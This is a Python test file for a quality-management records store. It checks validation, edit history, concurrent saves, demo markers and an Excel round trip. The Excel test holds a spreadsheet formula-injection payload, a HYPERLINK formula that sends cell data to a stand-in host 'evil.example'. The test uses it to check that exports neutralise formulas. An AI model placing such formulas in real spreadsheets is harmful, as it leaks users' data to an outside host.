"""The records store: validation, history, optimistic updates, real concurrent
processes, Excel round trip with formula neutralisation, demo marker."""

from __future__ import annotations

import json
import sqlite3
import subprocess
import sys
import textwrap
import time
from pathlib import Path

import pandas as pd
import pytest
from openpyxl import load_workbook

from qmsnb import io
from qmsnb.config import Params, load_params
from qmsnb.exceptions import RecordsConflict, RecordsError, RecordsImportError
from qmsnb.records import RecordsStore, open_store, store_exists, store_url

REGISTERS = ("process_register", "audit_programme", "findings", "actions")


@pytest.fixture
def project(cached_project: Path) -> Path:
    """A private copy of the demo project with its caches filled: this module's
    tests prepare periods, and none of them is about the caches."""
    return cached_project


def _file(params: Params, register: str) -> Path:
    path = io.find_dataset_file(params.registers_dir, io.DATASETS[register])
    assert path is not None
    return path


@pytest.fixture
def store(params: Params) -> RecordsStore:
    """A store with the demo's process register, audits, findings and actions imported."""
    store = open_store(params)
    for register in REGISTERS:
        store.import_table(register, _file(params, register), "importer")
    yield store
    store.close()


def _finding(store: RecordsStore, **changes: object) -> dict[str, object]:
    audit = store.frame("audit_programme").iloc[0]
    record = {
        "audit_id": audit["audit_id"],
        "grade": "minor",
        "clause": "8.5.1",
        "process_id": "C3",
        "department": "热线运营部",
        "statement": "排班表未按程序审批",
        "evidence": "抽查10月排班表3份,均无审批签字",
        "auditor": "赵敏",
        "found_on": "2026-10-12",
    }
    record.update(changes)
    return record


def _counts(path: Path) -> tuple[int, int]:
    with sqlite3.connect(path) as conn:
        return (
            conn.execute("select count(*) from records").fetchone()[0],
            conn.execute("select count(*) from history").fetchone()[0],
        )


def test_default_url_is_a_sqlite_file_under_the_project(params: Params) -> None:
    assert store_url(params) == f"sqlite:///{params.root / 'records' / 'qmsnb.sqlite'}"
    assert not store_exists(params)
    with open_store(params):
        pass
    assert store_exists(params)
    with sqlite3.connect(params.root / "records" / "qmsnb.sqlite") as conn:
        assert conn.execute("pragma journal_mode").fetchone()[0] == "wal"


def test_relative_records_url_resolves_against_the_project_root(project: Path) -> None:
    org = project / "params" / "organisation.yaml"
    org.write_text(
        org.read_text(encoding="utf-8") + "records_url: sqlite:///db/team.sqlite\n",
        encoding="utf-8",
    )
    params = load_params(project / "params")
    assert store_url(params) == f"sqlite:///{project / 'db' / 'team.sqlite'}"


def test_frame_is_typed_like_the_loader(store: RecordsStore, params: Params) -> None:
    for register in ("audit_programme", "findings", "actions"):
        from_file = io.load(params.registers_dir, register, params).frame
        from_store = store.frame(register)
        assert list(from_store.columns) == list(from_file.columns)
        assert dict(from_store.dtypes) == dict(from_file.dtypes)
        # _row is the line in the source: the file's (after its header) vs the store's order
        assert from_store[io.ROW].tolist() == list(range(1, len(from_store) + 1))
        pd.testing.assert_frame_equal(
            from_store.drop(columns=io.ROW), from_file.drop(columns=io.ROW)
        )


def test_insert_generates_the_next_id_and_keeps_history(store: RecordsStore) -> None:
    count = len(store.frame("findings"))
    new_id = store.insert("findings", _finding(store), "赵敏")
    assert new_id == f"F-{count + 1:03d}"
    record = store.get("findings", new_id)
    assert record["department"] == "hotline_ops"  # the name 热线运营部 stored as the id
    assert record["found_on"] == "2026-10-12"
    assert record.version == 1 and record.created_by == "赵敏"
    hist = store.history("findings", new_id)
    assert hist[["version", "action", "who"]].values.tolist() == [[1, "insert", "赵敏"]]
    assert hist["before"].iloc[0] is None and hist["after"].iloc[0]["grade"] == "minor"


@pytest.mark.parametrize(
    ("changes", "field", "key"),
    [
        ({"evidence": "  "}, "evidence", "error.records.evidence_required"),
        ({"clause": "99.9"}, "clause", "error.records.clause_unknown"),
        ({"grade": "catastrophic"}, "grade", "error.records.not_allowed"),
        ({"found_on": "12/13/2026x"}, "found_on", "error.records.not_a_date"),
        ({"audit_id": "IA-1999-999"}, "audit_id", "error.records.unknown_reference"),
        ({"process_id": "Z9"}, "process_id", "error.records.unknown_reference"),
        ({"department": "火星部"}, "department", "error.records.unknown_department"),
        ({"statement": None}, "statement", "error.records.missing_value"),
        ({"colour": "red"}, "colour", "error.records.unknown_field"),
    ],
)
def test_bad_findings_are_refused_naming_the_field(
    store: RecordsStore, params: Params, changes: dict, field: str, key: str
) -> None:
    before = _counts(params.root / "records" / "qmsnb.sqlite")
    with pytest.raises(RecordsError) as caught:
        store.insert("findings", _finding(store, **changes), "赵敏")
    assert caught.value.key == key
    assert caught.value.facts["field"] == field
    for lang in ("zh", "en"):
        message = caught.value.message(lang)
        assert "{" not in message, message
    assert _counts(params.root / "records" / "qmsnb.sqlite") == before


def test_an_observation_needs_no_evidence(store: RecordsStore) -> None:
    new_id = store.insert("findings", _finding(store, grade="observation", evidence=""), "赵敏")
    assert store.get("findings", new_id)["evidence"] is None


def test_bad_actions_and_audits_are_refused(store: RecordsStore) -> None:
    finding_id = store.insert("findings", _finding(store), "赵敏")
    action = {
        "source": "audit",
        "finding_id": finding_id,
        "department": "hotline_ops",
        "description": "修订排班审批流程",
        "owner": "王磊",
        "raised_on": "2026-10-12",
        "due_date": "2026-10-01",
        "status": "open",
    }
    with pytest.raises(RecordsError) as caught:
        store.insert("actions", action, "赵敏")
    assert caught.value.facts["field"] == "due_date"
    assert "2026-10-12" in caught.value.message("zh")
    with pytest.raises(RecordsError) as caught:
        store.insert("actions", {**action, "due_date": "2026-11-30", "finding_id": None}, "赵敏")
    assert caught.value.facts["field"] == "finding_id"
    with pytest.raises(RecordsError) as caught:
        store.insert("actions", {**action, "due_date": "2026-11-30", "status": "closed"}, "赵敏")
    assert caught.value.facts["field"] == "closed_on"
    assert store.insert("actions", {**action, "due_date": "2026-11-30"}, "赵敏").startswith("CA-")
    audit = {
        "process_id": "C3",
        "department": "hotline_ops",
        "planned_month": "2026-12",
        "auditor": "王磊",
        "auditor_department": "热线运营部",
        "status": "planned",
    }
    with pytest.raises(RecordsError) as caught:
        store.insert("audit_programme", audit, "赵敏")
    assert caught.value.key == "error.records.own_department"
    assert caught.value.facts["field"] == "auditor"
    assert "热线运营部" in caught.value.message("zh")


def test_update_keeps_the_old_state_in_history(store: RecordsStore) -> None:
    action_id = store.frame("actions")["action_id"].iloc[0]
    old = store.get("actions", action_id)
    new = store.update("actions", action_id, {"owner": "新负责人"}, "钱伟", reason="人员调整")
    assert new.version == old.version + 1 and new["owner"] == "新负责人"
    hist = store.history("actions", action_id)
    last = hist.iloc[-1]
    assert (last["action"], last["who"], last["reason"]) == ("update", "钱伟", "人员调整")
    assert last["before"]["owner"] == old["owner"] and last["after"]["owner"] == "新负责人"
    assert last["changed"] == ["owner"]
    # a save that changes nothing adds no history
    store.update("actions", action_id, {"owner": "新负责人"}, "钱伟")
    assert len(store.history("actions", action_id)) == len(hist)


def test_same_field_conflict_is_refused_other_fields_merge(store: RecordsStore) -> None:
    finding_id = store.insert("findings", _finding(store), "赵敏")
    store.update("findings", finding_id, {"statement": "A 的描述"}, "赵敏", expected_version=1)
    with pytest.raises(RecordsConflict) as caught:
        store.update("findings", finding_id, {"statement": "B 的描述"}, "钱伟", expected_version=1)
    assert caught.value.facts["field"] == "statement" and caught.value.facts["other"] == "赵敏"
    merged = store.update(
        "findings", finding_id, {"evidence": "B 补充的证据"}, "钱伟", expected_version=1
    )
    assert merged["statement"] == "A 的描述" and merged["evidence"] == "B 补充的证据"
    assert merged.version == 3


def test_retire_is_soft_and_history_cannot_be_rewritten(
    store: RecordsStore, params: Params
) -> None:
    finding_id = store.insert("findings", _finding(store), "赵敏")
    with pytest.raises(RecordsError):
        store.retire("findings", finding_id, "赵敏", reason=" ")
    store.retire("findings", finding_id, "赵敏", reason="重复登记")
    assert finding_id not in set(store.frame("findings")["finding_id"])
    assert store.get("findings", finding_id).retired
    assert store.history("findings", finding_id)["action"].tolist() == ["insert", "retire"]
    with pytest.raises(RecordsError) as caught:
        store.update("findings", finding_id, {"statement": "x"}, "赵敏")
    assert caught.value.key == "error.records.retired"
    with pytest.raises(RecordsError) as caught:  # a retired finding cannot be referenced
        store.insert(
            "actions",
            {
                "source": "audit",
                "finding_id": finding_id,
                "department": "hotline_ops",
                "description": "x",
                "owner": "x",
                "raised_on": "2026-10-12",
                "due_date": "2026-11-12",
                "status": "open",
            },
            "赵敏",
        )
    assert caught.value.facts["field"] == "finding_id"
    with sqlite3.connect(params.root / "records" / "qmsnb.sqlite") as conn:
        for sql in ("delete from history", "update history set who = 'x'", "delete from records"):
            with pytest.raises(sqlite3.DatabaseError, match="qmsnb"):
                conn.execute(sql)


_WORKER = textwrap.dedent(
    """
    import json, sys, time
    from pathlib import Path
    from qmsnb.config import load_params
    from qmsnb.exceptions import RecordsConflict
    from qmsnb.records import open_store

    params_dir, go, mode, name, count = sys.argv[1:6]
    store = open_store(load_params(params_dir))
    while not Path(go).exists():
        time.sleep(0.005)
    out = []
    if mode == "insert":
        audit = store.frame("audit_programme").iloc[0]["audit_id"]
        for i in range(int(count)):
            out.append(store.insert("findings", {
                "audit_id": audit, "grade": "observation", "clause": "8.5.1", "process_id": "C3",
                "department": "hotline_ops", "statement": f"{name} {i}", "auditor": name,
                "found_on": "2026-10-12"}, name))
    else:
        record_id, field = count, mode
        try:
            store.update("findings", record_id, {field: f"by {name}"}, name, expected_version=1)
            out.append("saved")
        except RecordsConflict as exc:
            out.append("conflict:" + exc.facts["field"])
    print(json.dumps(out))
    """
)


def _run_workers(
    params: Params, tmp_path: Path, jobs: list[tuple[str, str, str]]
) -> list[list[str]]:
    go = tmp_path / "go"
    script = tmp_path / "worker.py"
    script.write_text(_WORKER, encoding="utf-8")
    procs = [
        subprocess.Popen(
            [sys.executable, str(script), str(params.folder), str(go), mode, name, arg],
            stdout=subprocess.PIPE,
            stderr=subprocess.PIPE,
            text=True,
        )
        for mode, name, arg in jobs
    ]
    time.sleep(2.5)  # both workers are up and waiting
    go.write_text("go")
    results = []
    for proc in procs:
        out, err = proc.communicate(timeout=120)
        assert proc.returncode == 0, err
        results.append(json.loads(out.strip().splitlines()[-1]))
    return results


def test_two_processes_saving_at_once_both_keep_their_entries(
    store: RecordsStore, params: Params, tmp_path: Path
) -> None:
    before = len(store.frame("findings"))
    first, second = _run_workers(
        params, tmp_path, [("insert", "赵敏", "40"), ("insert", "钱伟", "40")]
    )
    assert len(first) == len(second) == 40
    assert not set(first) & set(second)
    findings = store.frame("findings")
    assert len(findings) == before + 80
    assert set(first) | set(second) <= set(findings["finding_id"])
    mine = findings[
        findings["auditor"].isin(["赵敏", "钱伟"]) & findings["statement"].str.match(r"^\S+ \d+$")
    ]
    assert sorted(mine["statement"]) == sorted(
        [f"赵敏 {i}" for i in range(40)] + [f"钱伟 {i}" for i in range(40)]
    )
    hist = store.history("findings")
    assert len(hist) == before + 80
    assert set(hist["action"]) == {"import", "insert"} and (hist["action"] == "insert").sum() == 80


def test_two_processes_updating_one_record(
    store: RecordsStore, params: Params, tmp_path: Path
) -> None:
    same = store.insert("findings", _finding(store), "赵敏")
    results = _run_workers(
        params, tmp_path, [("statement", "赵敏", same), ("statement", "钱伟", same)]
    )
    assert sorted(r[0] for r in results) == ["conflict:statement", "saved"]
    winner = "赵敏" if results[0] == ["saved"] else "钱伟"
    assert store.get("findings", same)["statement"] == f"by {winner}"
    other = store.insert("findings", _finding(store), "赵敏")
    second_round = tmp_path / "second"
    second_round.mkdir()
    results = _run_workers(
        params, second_round, [("statement", "赵敏", other), ("evidence", "钱伟", other)]
    )
    assert results == [["saved"], ["saved"]]
    record = store.get("findings", other)
    assert (record["statement"], record["evidence"], record.version) == ("by 赵敏", "by 钱伟", 3)


def test_excel_round_trip_neutralises_formulas(
    store: RecordsStore, params: Params, tmp_path: Path
) -> None:
    nasty = {
        "statement": '=HYPERLINK("http://evil.example/?"&A1,"点我")',
        "evidence": "+86 138 0000 0000 来电记录",
        "auditor": "@SUM(A1:A9)",
    }
    new_id = store.insert("findings", _finding(store, **nasty, clause="8.5.1"), "赵敏")
    store.update("findings", new_id, {"statement": "-5 份记录缺签字"}, "赵敏")
    out = store.export_excel("findings", tmp_path / "findings.xlsx", with_history=True)
    book = load_workbook(out)
    sheet = book.worksheets[0]
    cells = [c for row in sheet.iter_rows() for c in row if c.value is not None]
    assert not [c.coordinate for c in cells if c.data_type == "f"]
    texts = {c.value for c in cells if isinstance(c.value, str)}
    assert "'-5 份记录缺签字" in texts and "'+86 138 0000 0000 来电记录" in texts
    assert "'@SUM(A1:A9)" in texts
    assert not [t for t in texts if t.startswith(("=", "+", "-", "@"))]
    history_cells = [c for row in book.worksheets[1].iter_rows() for c in row]
    assert not [c for c in history_cells if c.data_type == "f"]
    assert sheet["A1"].value == "发现编号"
    # the same file read back changes nothing...
    again = store.import_table("findings", out, "赵敏")
    assert again.inserted == [] and again.updated == []
    # ...and into a fresh store gives the same frame, formulas restored as text
    fresh = open_store(params, url=f"sqlite:///{tmp_path / 'fresh.sqlite'}")
    for register in ("process_register", "audit_programme"):
        fresh.import_table(register, _file(params, register), "importer")
    result = fresh.import_table("findings", out, "importer")
    assert len(result.inserted) == len(store.frame("findings"))
    pd.testing.assert_frame_equal(fresh.frame("findings"), store.frame("findings"))
    assert fresh.get("findings", new_id)["statement"] == "-5 份记录缺签字"
    assert fresh.get("findings", new_id)["evidence"] == nasty["evidence"]
    fresh.close()


def test_a_bad_row_refuses_the_whole_import(
    store: RecordsStore, params: Params, tmp_path: Path
) -> None:
    frame = store.frame("findings").drop(columns=[io.ROW]).head(3).copy()
    frame["finding_id"] = ["N-1", "N-2", "N-3"]
    frame.loc[2, "grade"] = "major"
    frame.loc[2, "evidence"] = None
    path = tmp_path / "new_findings.xlsx"
    io.write_export(frame, path, "findings", headers="zh")
    before = _counts(params.root / "records" / "qmsnb.sqlite")
    with pytest.raises(RecordsImportError) as caught:
        store.import_table("findings", path, "赵敏")
    assert caught.value.facts["row"] == 4 and caught.value.facts["field"] == "evidence"
    assert str(path) in caught.value.message("en") and "第 4 行" in caught.value.message("zh")
    assert _counts(params.root / "records" / "qmsnb.sqlite") == before


def test_demo_marker(params: Params) -> None:
    store = open_store(params)
    store.import_table("process_register", _file(params, "process_register"), "qmsnb demo")
    store.mark_demo()
    assert store.is_demo_only()
    store.reset_demo()
    assert not store.holds_entries()
    store.import_table("process_register", _file(params, "process_register"), "qmsnb demo")
    store.mark_demo()
    store.update("process_register", "C1", {"importance": "B"}, "品质部 赵敏")
    assert not store.is_demo_only()
    with pytest.raises(RecordsError) as caught:
        store.reset_demo()
    assert caught.value.key == "error.records.not_demo"
    assert store.get("process_register", "C1")["importance"] == "B"
    store.close()


def test_prepare_snapshots_the_store_with_its_fingerprint(
    store: RecordsStore, params: Params, tmp_path: Path
) -> None:
    from qmsnb import prepare

    action_id = store.frame("actions")["action_id"].iloc[0]
    store.update("actions", action_id, {"owner": "快照测试"}, "钱伟")
    meta = prepare.prepare(params, "2026-10", tmp_path / "prepared")
    _, regs, _ = prepare.read_prepared(tmp_path / "prepared")
    assert regs["actions"].set_index("action_id").loc[action_id, "owner"] == "快照测试"
    assert meta["records_store"]["fingerprint"] == store.fingerprint()
    assert meta["records_store"]["registers"] == sorted(REGISTERS)
    sources = {i["dataset"]: i for i in meta["inputs"] if i["period"] is None}
    assert sources["actions"]["path"].endswith("qmsnb.sqlite#actions")
    assert sources["actions"]["sha256"] == store.fingerprint("actions")
    # registers the store does not keep still come from their files
    assert sources["objectives"]["path"].endswith("objectives.xlsx")
    # a later save moves the fingerprint; the prepared snapshot stays as it was
    store.update("actions", action_id, {"owner": "之后的修改"}, "钱伟")
    assert store.fingerprint() != meta["records_store"]["fingerprint"]
    assert regs["actions"].set_index("action_id").loc[action_id, "owner"] == "快照测试"


def _count_typing(monkeypatch: pytest.MonkeyPatch) -> list[str]:
    """The registers typed from the store from now on, in order."""
    reads: list[str] = []
    real_frame = RecordsStore._frame

    def counted(self: RecordsStore, conn: object, register: str, retired: bool = False):
        reads.append(register)
        return real_frame(self, conn, register, retired)

    monkeypatch.setattr(RecordsStore, "_frame", counted)
    return reads


def test_a_batch_reads_an_unchanged_store_once_and_a_changed_one_again(
    store: RecordsStore, params: Params, monkeypatch: pytest.MonkeyPatch
) -> None:
    from qmsnb import records

    reads = _count_typing(monkeypatch)
    action_id = store.frame("actions")["action_id"].iloc[0]
    reads.clear()
    with records.snapshots_reused():
        first, info = records.snapshot(params)
        assert sorted(reads) == sorted(REGISTERS)
        # what the gate does to its copy does not reach prepare's
        first["actions"].frame.loc[:, "owner"] = "改在副本里"
        first["actions"].present_columns.append("x")
        second, again = records.snapshot(params)
        assert sorted(reads) == sorted(REGISTERS)  # nothing read a second time
        assert again == info
        assert "改在副本里" not in set(second["actions"].frame["owner"])
        assert "x" not in second["actions"].present_columns
        pd.testing.assert_frame_equal(
            second["findings"].frame, store.frame("findings"), check_like=True
        )
        # a save in between: the store is read again and the save is in it
        store.update("actions", action_id, {"owner": "批处理中的修改"}, "钱伟")
        before = len(reads)
        third, moved = records.snapshot(params)
        assert reads[before:] == ["actions"]  # the others as typed before (disk cache)
        assert moved["fingerprint"] == store.fingerprint() != info["fingerprint"]
        owner = third["actions"].frame.set_index("action_id").loc[action_id, "owner"]
        assert owner == "批处理中的修改"
    # outside a batch a snapshot reads the store's fingerprints and takes the
    # unchanged registers as an earlier snapshot typed them (disk cache)
    before = len(reads)
    outside, _ = records.snapshot(params)
    assert len(reads) == before
    pd.testing.assert_frame_equal(outside["actions"].frame, third["actions"].frame)


def test_typed_registers_are_kept_between_runs_and_typed_again_on_any_change(
    store: RecordsStore, params: Params, monkeypatch: pytest.MonkeyPatch
) -> None:
    """Each register as typed is kept on disk (a run's gate and prepare need not
    type it again); what comes back is exactly the typed frame, and a changed
    record, a changed params file or a damaged cache file types it afresh."""
    from qmsnb import records

    reads = _count_typing(monkeypatch)
    cache = params.output_dir / ".cache" / "records"
    first, _ = records.snapshot(params)  # types what is not cached yet
    assert sorted(p.name.split("-")[0] for p in cache.glob("*.parquet")) == sorted(REGISTERS)
    reads.clear()
    kept, _ = records.snapshot(params)
    assert reads == []
    with store._read() as conn:
        for register in REGISTERS:
            fresh = store._frame(conn, register)  # typed now, from the store
            pd.testing.assert_frame_equal(kept[register].frame, fresh, check_exact=True)
            assert kept[register].sha256 == first[register].sha256
    # a saved change: only that register is typed again, with the change in it
    action_id = store.frame("actions")["action_id"].iloc[0]
    store.update("actions", action_id, {"owner": "缓存之后的修改"}, "钱伟")
    reads.clear()
    changed, _ = records.snapshot(params)
    assert reads == ["actions"]
    assert changed["actions"].frame.set_index("action_id").loc[action_id, "owner"] == (
        "缓存之后的修改"
    )
    assert len(list(cache.glob("actions-*.parquet"))) == 1  # the older one is gone
    # a damaged cache file, or a parquet file that is not one, is not used
    (next(cache.glob("findings-*.parquet"))).write_bytes(b"PAR1 not parquet")
    io.write_parquet(next(cache.glob("audit_programme-*.parquet")), first["actions"].frame)
    reads.clear()
    again, _ = records.snapshot(params)
    assert sorted(reads) == ["audit_programme", "findings"]
    pd.testing.assert_frame_equal(again["audit_programme"].frame, first["audit_programme"].frame)
    # a change to any params file types every register again
    extra = params.folder / "organisation.yaml"
    extra.write_text(extra.read_text(encoding="utf-8") + "\n# note\n", encoding="utf-8")
    reads.clear()
    records.snapshot(params)
    assert sorted(reads) == sorted(REGISTERS)


def test_prepare_without_a_store_reads_files_and_creates_none(
    params: Params, tmp_path: Path
) -> None:
    from qmsnb import prepare

    meta = prepare.prepare(params, "2026-10", tmp_path / "prepared")
    assert meta["records_store"] == {}
    assert not store_exists(params)


def test_demo_command_seeds_a_fresh_store_and_never_overwrites_real_entries(
    project: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from qmsnb.cli import main

    args = ["--params", str(project / "params"), "--lang", "en"]
    import shutil

    shutil.rmtree(project / "data")
    assert main([*args, "demo", "--calls-per-month", "300", "--months", "2"]) == 0
    params = load_params(project / "params")
    with open_store(params) as store:
        counts = store.counts()
        assert store.is_demo_only()
    assert counts["findings"] == len(io.load(params.registers_dir, "findings", params).frame)
    assert main([*args, "demo", "--calls-per-month", "300", "--months", "2"]) == 0  # demo again
    with open_store(params) as store:
        assert store.counts() == counts
        store.update("process_register", "C1", {"importance": "B"}, "品质部 赵敏")
    capsys.readouterr()
    assert main([*args, "demo", "--calls-per-month", "300", "--months", "2"]) == 2
    assert "not demo data" in capsys.readouterr().err
    with open_store(params) as store:
        assert store.get("process_register", "C1")["importance"] == "B"


def test_records_command_exports_and_imports(
    store: RecordsStore, params: Params, tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    from qmsnb.cli import main

    args = ["--params", str(params.folder), "--lang", "en", "records"]
    out = tmp_path / "actions.xlsx"
    assert main([*args, "export", "actions", str(out)]) == 0
    assert out.is_file()
    assert main([*args, "import", "actions", str(out), "--who", "钱伟"]) == 0
    text = capsys.readouterr().out
    assert f"0 added, 0 updated, {len(store.frame('actions'))} unchanged" in text
    assert main([*args, "import", "findings", str(out), "--who", "钱伟"]) == 2
    assert "lacks required columns" in capsys.readouterr().err
